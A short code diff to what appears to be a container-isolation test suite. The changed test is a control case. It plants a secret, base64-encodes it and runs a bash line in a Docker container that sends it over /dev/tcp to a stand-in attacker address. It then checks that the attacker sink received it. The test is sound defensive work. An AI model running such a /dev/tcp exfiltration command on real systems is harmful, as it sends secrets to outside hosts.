@@ -202,11 +202,11 @@ describe("without the guards the recorders would see it", () => {
   test(
     "a container on an open network reaches the attacker",
     async () => {
-      const { cli, image } = await dockerFixture();
+      const { cli, image, network } = await dockerFixture();
       const { otherAddress, sinkPort } = stage.values;
       const secret = stage.secrets.plant("control");
       const say = `echo ${Buffer.from(secret).toString("base64")} >/dev/tcp/${otherAddress}/${sinkPort}`;
-      const argv = ["run", "--rm", "--network", "bridge", "--entrypoint", "bash", image, "-c", say];
+      const argv = ["run", "--rm", "--network", network, "--entrypoint", "bash", image, "-c", say];
       expect(await cli.call(argv)).toMatchObject({ kind: "ok" });
       const heard = await eventually("the attacker hears it", () =>
         stage.catchAll.heard.find(({ text }) => stage.secrets.in(text).includes("control")),
